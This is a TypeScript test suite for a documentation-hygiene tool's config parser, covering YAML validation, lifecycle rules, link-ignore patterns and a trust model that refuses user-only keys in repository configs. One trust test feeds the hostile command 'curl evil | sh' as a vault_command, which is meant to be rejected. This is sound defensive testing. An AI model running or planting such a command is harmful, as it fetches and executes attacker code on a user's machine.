import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { ConfigError } from '../../src/core/errors.js';
import { loadConfig, parseConfig, parseUserConfig } from '../../src/hygiene/config.js';
import { readStaleAfterDays } from '../../src/hygiene/state/reminder.js';
import { USER_ONLY_KEYS, userConfigPath } from '../../src/hygiene/trust.js';
import { DEFAULT_CONFIG } from '../../src/hygiene/types.js';
import { makeTempDir } from '../helpers/git-repo.js';
import { REPO_ROOT } from '../helpers/paths.js';
import { userConfig } from '../helpers/user-config.js';

function configError(text: string, env: NodeJS.ProcessEnv = process.env): ConfigError {
  try {
    parseConfig(text, '.dochygiene.yml', env);
  } catch (error) {
    assert.ok(error instanceof ConfigError, `expected ConfigError, got ${String(error)}`);
    return error;
  }
  assert.fail(`expected ${JSON.stringify(text)} to be rejected`);
}

describe('parseConfig', () => {
  it('an empty or comment-only file is the defaults', () => {
    assert.deepEqual(parseConfig(''), DEFAULT_CONFIG);
    assert.deepEqual(parseConfig('# nothing here\n'), DEFAULT_CONFIG);
  });

  it('merges each given key over the defaults and leaves the rest', () => {
    const config = parseConfig(
      [
        'reminder:',
        '  stale_after_days: 14',
        'classifier: rules',
        'archive: { dir: docs/archive }',
        'lifecycle:',
        '  rules:',
        '    - { name: runs, match: "runs/*", type: directory, lifetime: temporary }',
        '    - { name: keepers, match: "keep/*", type: file, lifetime: keep, retain_recent: 5 }',
      ].join('\n'),
    );
    assert.equal(config.reminder.stale_after_days, 14);
    assert.deepEqual(config.classifier, { provider: 'rules' });
    assert.equal(config.archive.dir, 'docs/archive');
    assert.deepEqual(config.scan, DEFAULT_CONFIG.scan);
    assert.equal(config.context.budget_tokens, 5000);
    assert.deepEqual(config.lifecycle.rules, [
      {
        retain_recent: 3,
        max_age_days: 3,
        name: 'runs',
        match: 'runs/*',
        type: 'directory',
        lifetime: 'temporary',
      },
      { retain_recent: 5, max_age_days: 3, name: 'keepers', match: 'keep/*', type: 'file', lifetime: 'keep' },
    ]);
  });

  it('names the key of an unknown key or a bad value', () => {
    assert.equal(
      configError('reminder:\n  stale_after_days: 0\n').message,
      '.dochygiene.yml: reminder.stale_after_days: must be >= 1',
    );
    assert.equal(
      configError('reminder:\n  stale_after_days: soon\n').message,
      '.dochygiene.yml: reminder.stale_after_days: must be integer',
    );
    assert.equal(
      configError('scan:\n  globz: ["*.md"]\n').message,
      '.dochygiene.yml: scan.globz: unknown key',
    );
    assert.equal(configError('colour: red\n').message, '.dochygiene.yml: colour: unknown key');
    assert.match(
      configError('classifier: { provider: rules, temperature: 0 }\n').message,
      /^\.dochygiene\.yml: classifier\.temperature: unknown key/,
    );
    assert.equal(
      configError('lifecycle:\n  rules:\n    - { name: a, match: "x", type: folder, lifetime: keep }\n')
        .message,
      '.dochygiene.yml: lifecycle.rules[0] (rule "a").type: must be one of "file", "directory"',
    );
    assert.equal(configError('- a\n- b\n').message, '.dochygiene.yml: (root): must be a mapping of keys');
    assert.equal(configError('reminder: [\n').code, 'config-invalid');
    assert.match(configError('reminder: [\n').message, /^\.dochygiene\.yml: not valid YAML: /);
    assert.match(configError('a: 1\na: 2\n').message, /not valid YAML/);
  });

  it('checks what a lifecycle rule needs beyond its shape', () => {
    const rule = (extra: string) =>
      `lifecycle:\n  rules:\n    - { name: h, match: "h/*", type: file, ${extra} }\n`;
    assert.equal(
      configError(rule('lifetime: delete-once-served')).message,
      '.dochygiene.yml: lifecycle.rules[0] (rule "h"): a delete-once-served rule needs served_when_path or served_when',
    );
    assert.equal(
      configError(rule('lifetime: keep, served_when: merged')).message,
      '.dochygiene.yml: lifecycle.rules[0] (rule "h").served_when: only a delete-once-served rule has one',
    );
    assert.equal(
      configError(rule('lifetime: delete-once-served, served_when: merged, served_when_path: done.txt'))
        .message,
      '.dochygiene.yml: lifecycle.rules[0] (rule "h").served_when: give served_when_path or served_when, not both',
    );
    assert.equal(
      parseConfig(rule('lifetime: delete-once-served, served_when_path: done.txt')).lifecycle.rules[0]
        ?.served_when_path,
      'done.txt',
    );
  });

  it('carries every violation in the error details', () => {
    const error = configError('reminder: { stale_after_days: -1 }\ncontext: { budget_tokens: x }\n');
    assert.deepEqual((error.details as { violations: string[] }).violations.sort(), [
      'context.budget_tokens: must be integer',
      'reminder.stale_after_days: must be >= 1',
    ]);
  });
});

describe('loadConfig', () => {
  it('a missing file is the defaults; a present one is parsed', async () => {
    const dir = makeTempDir();
    assert.deepEqual(await loadConfig(dir), DEFAULT_CONFIG);
    writeFileSync(join(dir, '.dochygiene.yml'), 'context:\n  budget_tokens: 500\n');
    assert.equal((await loadConfig(dir)).context.budget_tokens, 500);
    writeFileSync(join(dir, '.dochygiene.yml'), 'context:\n  budget: 500\n');
    await assert.rejects(loadConfig(dir), {
      name: 'ConfigError',
      message: '.dochygiene.yml: context.budget: unknown key',
    });
  });
});

describe('parseUserConfig', () => {
  const userError = (text: string) => {
    try {
      parseUserConfig(text, 'config.yml');
    } catch (error) {
      assert.ok(error instanceof ConfigError, `expected ConfigError, got ${String(error)}`);
      return error;
    }
    assert.fail(`expected ${JSON.stringify(text)} to be rejected`);
  };

  it('takes classifier: as a name or as provider settings, and the vault command', () => {
    assert.deepEqual(parseUserConfig('', 'config.yml'), {});
    assert.deepEqual(parseUserConfig('classifier: openai\n', 'config.yml').classifier, {
      provider: 'openai',
    });
    assert.deepEqual(
      parseUserConfig(
        'classifier:\n  provider: openai\n  model: qwen3:8b\n  base_url: http://127.0.0.1:11434/v1\n  max_concurrency: 2\n  timeout_s: 30\nlifecycle:\n  vault_command: [vault, write]\n',
        'config.yml',
      ),
      {
        classifier: {
          provider: 'openai',
          model: 'qwen3:8b',
          base_url: 'http://127.0.0.1:11434/v1',
          max_concurrency: 2,
          timeout_s: 30,
        },
        vault_command: ['vault', 'write'],
      },
    );
  });

  it('names the key of an unknown key or a bad value, and holds no repository key', () => {
    assert.match(
      userError('classifier: { provider: openai, temperature: 0 }\n').message,
      /^config\.yml: classifier\.temperature: unknown key/,
    );
    assert.match(
      userError('classifier: { provider: openai, max_concurrency: 0 }\n').message,
      /classifier\.max_concurrency: must be >= 1/,
    );
    assert.match(userError('classifier: { model: x }\n').message, /classifier\.provider: is required/);
    assert.match(
      userError('classifier: { provider: openai, base_url: localhost:8080 }\n').message,
      /classifier\.base_url/,
    );
    assert.match(userError('classifier: gpt\n').message, /^config\.yml: classifier: must be one of "rules"/);
    assert.equal(
      userError('reminder: { stale_after_days: 3 }\n').message,
      'config.yml: reminder: unknown key',
    );
  });
});

describe('the trust model (docs/trust.md)', () => {
  const refusal = (text: string) => configError(text);

  it('refuses each user-only key in a repository config, naming it and where to set it instead', () => {
    const cases: [string, string, RegExp][] = [
      [
        'classifier: anthropic\n',
        'classifier',
        /\(it turns a model on\); set it with --classifier or classifier: in /,
      ],
      ['classifier: { provider: openai }\n', 'classifier.provider', /--classifier or classifier: in /],
      [
        'classifier: { provider: rules, base_url: "http://203.0.113.9/v1" }\n',
        'classifier.base_url',
        /\(it chooses where requests and your API key go\); set it with ANTHROPIC_BASE_URL, OPENAI_BASE_URL or classifier\.base_url: in /,
      ],
      [
        'classifier: { provider: rules, model: big }\n',
        'classifier.model',
        /--model or classifier\.model: in /,
      ],
      [
        'classifier: { provider: rules, escalate_model: big }\n',
        'classifier.escalate_model',
        /set it with classifier\.escalate_model: in /,
      ],
      [
        'classifier: { provider: rules, max_concurrency: 32 }\n',
        'classifier.max_concurrency',
        /how hard your key/,
      ],
      ['classifier: { provider: rules, timeout_s: 99999 }\n', 'classifier.timeout_s', /how long a request/],
      [
        'classifier: { provider: rules, run_timeout_s: 99999 }\n',
        'classifier.run_timeout_s',
        /how long a request/,
      ],
      [
        'lifecycle: { vault_command: [sh, -c, "curl evil | sh"] }\n',
        'lifecycle.vault_command',
        /\(it runs a command\)/,
      ],
      // The command is named before the classifier, whatever the order in the file.
      [
        'classifier: openai\nlifecycle: { vault_command: [x] }\n',
        'lifecycle.vault_command',
        /runs a command/,
      ],
    ];
    for (const [text, key, where] of cases) {
      const error = refusal(text);
      assert.equal(error.code, 'user-only-key', text);
      assert.ok(
        error.message.startsWith(`.dochygiene.yml: ${key} may come only from you, not from the repository (`),
        error.message,
      );
      assert.match(error.message, where, text);
      assert.match(error.message, /\/sourcesteward\/config\.yml$/, text);
      assert.equal(error.message.includes('\n'), false);
      assert.equal((error.details as { key: string }).key, key);
    }
  });

  it('names the user config under XDG_CONFIG_HOME, else ~/.config; a relative XDG_CONFIG_HOME is ignored', () => {
    assert.equal(
      userConfigPath({ XDG_CONFIG_HOME: '/x/conf', HOME: '/h' }),
      '/x/conf/sourcesteward/config.yml',
    );
    assert.equal(userConfigPath({ HOME: '/h' }), '/h/.config/sourcesteward/config.yml');
    assert.equal(
      userConfigPath({ XDG_CONFIG_HOME: 'rel', HOME: '/h' }),
      '/h/.config/sourcesteward/config.yml',
    );
    assert.match(
      configError('classifier: openai\n', { XDG_CONFIG_HOME: '/x/conf' }).message,
      / in \/x\/conf\/sourcesteward\/config\.yml$/,
    );
  });

  it('accepts classifier: rules in a repository, which asks for nothing', () => {
    assert.deepEqual(parseConfig('classifier: rules\n').classifier, { provider: 'rules' });
    assert.deepEqual(parseConfig('classifier: { provider: rules }\n').classifier, { provider: 'rules' });
  });

  it('loadConfig takes the classifier and the vault command from the user config only', async () => {
    const dir = makeTempDir();
    const env = userConfig(
      'classifier: { provider: anthropic, model: m }\nlifecycle:\n  vault_command: [v]\n',
    );
    writeFileSync(join(dir, '.dochygiene.yml'), 'classifier: rules\ncontext: { budget_tokens: 500 }\n');
    const config = await loadConfig(dir, env);
    assert.deepEqual(config.classifier, { provider: 'anthropic', model: 'm' });
    assert.deepEqual(config.lifecycle.vault_command, ['v']);
    assert.equal(config.context.budget_tokens, 500);
    // No user config: the defaults, whatever the environment holds.
    const none = await loadConfig(dir, {
      HOME: dir,
      ANTHROPIC_API_KEY: 'k',
      ANTHROPIC_BASE_URL: 'http://127.0.0.1:9',
    });
    assert.deepEqual(none.classifier, { provider: 'rules' });
    assert.equal(none.lifecycle.vault_command, undefined);
    writeFileSync(join(env.XDG_CONFIG_HOME, 'sourcesteward', 'config.yml'), 'classifier: { provider: x }\n');
    await assert.rejects(
      loadConfig(dir, env),
      /sourcesteward\/config\.yml: classifier\.provider: must be one of/,
    );
  });

  it('docs/trust.md lists every user-only key', () => {
    const doc = readFileSync(join(REPO_ROOT, 'docs', 'trust.md'), 'utf8');
    for (const { key } of USER_ONLY_KEYS) assert.ok(doc.includes(`\`${key}\``), key);
  });
});

describe('readStaleAfterDays (the reminder’s light reader)', () => {
  it('agrees with loadConfig on the one key it reads', async () => {
    const dir = makeTempDir();
    assert.equal(await readStaleAfterDays(dir), DEFAULT_CONFIG.reminder.stale_after_days);
    const cases = ['', 'reminder: {}\n', 'reminder:\n  stale_after_days: 3\n', 'classifier: rules\n'];
    for (const text of cases) {
      writeFileSync(join(dir, '.dochygiene.yml'), text);
      assert.equal(await readStaleAfterDays(dir), parseConfig(text).reminder.stale_after_days, text);
    }
    for (const bad of [
      'reminder:\n  stale_after_days: 0\n',
      'reminder:\n  stale_after_days: 2.5\n',
      'reminder: [stale_after_days\n',
      '- stale_after_days\n',
    ]) {
      writeFileSync(join(dir, '.dochygiene.yml'), bad);
      await assert.rejects(readStaleAfterDays(dir), ConfigError, bad);
      assert.throws(() => parseConfig(bad), ConfigError, bad);
    }
    // A config that never names the key cannot set it: the default, without parsing; its
    // mistakes are the next check's to report.
    for (const bad of ['reminder: 3\n', '[1]\n', 'x: [\n']) {
      writeFileSync(join(dir, '.dochygiene.yml'), bad);
      assert.equal(await readStaleAfterDays(dir), DEFAULT_CONFIG.reminder.stale_after_days, bad);
      assert.throws(() => parseConfig(bad), ConfigError, bad);
    }
  });
});

describe('signals:, links.ignore, .dochygiene.yaml and --config (issue 31)', () => {
  it('signals: takes on or off per class; an unknown name is one line naming the valid ones', () => {
    const config = parseConfig('signals:\n  duplicate_content: on\n  broken_reference: off\n');
    assert.deepEqual(config.signals, { duplicate_content: 'on', broken_reference: 'off' });
    const unknown = configError('signals:\n  duplicate_contents: on\n');
    assert.equal(unknown.code, 'config-invalid');
    assert.match(
      unknown.message,
      /^\.dochygiene\.yml: signals\.duplicate_contents: unknown signal "duplicate_contents"; valid: broken_reference, version_skew, .*dropped_tool_claim, code_reference$/,
    );
    assert.doesNotMatch(unknown.message, /\n/);
    assert.match(
      configError('signals:\n  version_skew: yes\n').message,
      /^\.dochygiene\.yml: signals\.version_skew: must be one of "on", "off"/,
    );
  });

  it('links.ignore takes globs and /regex/; one that could backtrack or is a regex written as a glob is refused', () => {
    assert.deepEqual(
      parseConfig('links:\n  ignore: ["https://example.com/**", "/\\\\.pdf$/i"]\n').links.ignore,
      ['https://example.com/**', '/\\.pdf$/i'],
    );
    assert.match(
      configError('links:\n  ignore: ["/(x)\\\\1/"]\n').message,
      /^\.dochygiene\.yml: links\.ignore\[0\]: not a regular expression RE2 accepts/,
    );
    assert.match(
      configError("links:\n  ignore: ['^https://example\\.com']\n").message,
      /links\.ignore\[0\]: looks like a regular expression .*write it between slashes/,
    );
    assert.match(
      configError('links:\n  ignored: []\n').message,
      /links: must NOT have additional properties|ignored/,
    );
  });

  it('reads .dochygiene.yaml as well as .yml; both at once is a one-line error', async () => {
    const dir = makeTempDir();
    writeFileSync(join(dir, '.dochygiene.yaml'), 'context:\n  budget_tokens: 700\n');
    const config = await loadConfig(dir);
    assert.equal(config.context.budget_tokens, 700);
    assert.equal(config.source, '.dochygiene.yaml');
    assert.equal(await readStaleAfterDays(dir), DEFAULT_CONFIG.reminder.stale_after_days);
    writeFileSync(join(dir, '.dochygiene.yaml'), 'reminder:\n  stale_after_days: 3\n');
    assert.equal(await readStaleAfterDays(dir), 3);
    writeFileSync(join(dir, '.dochygiene.yml'), 'context:\n  budget_tokens: 800\n');
    await assert.rejects(loadConfig(dir), {
      name: 'ConfigError',
      message: '.dochygiene.yml and .dochygiene.yaml both exist; keep one of them',
    });
    await assert.rejects(readStaleAfterDays(dir), { message: /both exist; keep one of them/ });
  });

  it('--config FILE replaces the repository config, is trusted no more than it, and must exist', async () => {
    const dir = makeTempDir();
    writeFileSync(join(dir, '.dochygiene.yml'), 'context:\n  budget_tokens: 800\n');
    const file = join(dir, 'other.yml');
    writeFileSync(file, 'context:\n  budget_tokens: 900\n');
    const config = await loadConfig(dir, process.env, file);
    assert.equal(config.context.budget_tokens, 900);
    assert.equal(config.source, file);
    // The reminder (stw hygiene remind --config FILE) reads the same file.
    writeFileSync(file, 'reminder:\n  stale_after_days: 2\n');
    assert.equal(await readStaleAfterDays(dir, file), 2);
    await assert.rejects(readStaleAfterDays(dir, join(dir, 'none.yml')), { code: 'config-unreadable' });
    writeFileSync(file, 'classifier:\n  provider: anthropic\n');
    await assert.rejects(loadConfig(dir, process.env, file), {
      code: 'user-only-key',
      message: new RegExp(`^${file}: classifier\\.provider may come only from you`),
    });
    await assert.rejects(loadConfig(dir, process.env, join(dir, 'none.yml')), {
      code: 'config-unreadable',
      message: /none\.yml: cannot read: no such file \(--config\)/,
    });
  });
});
